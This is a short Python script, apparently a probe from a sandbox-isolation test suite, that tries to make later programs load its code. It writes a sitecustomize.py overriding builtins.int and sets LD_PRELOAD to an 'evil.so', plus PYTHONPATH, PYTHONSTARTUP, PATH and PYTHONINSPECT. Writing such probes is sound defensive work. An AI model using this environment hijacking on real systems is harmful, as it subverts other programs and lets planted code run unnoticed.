# Tries: variables that make later programs load its code.
# Success: a later program runs with them.
import os

with open("/work/sitecustomize.py", "w") as file:
    file.write("import builtins\nbuiltins.int = lambda _: 99\n")
os.environ.update(LD_PRELOAD="/work/evil.so", PYTHONPATH="/work", PYTHONSTARTUP="/work/sitecustomize.py", PATH="/work", PYTHONINSPECT="1")
print("ATTEMPTED")
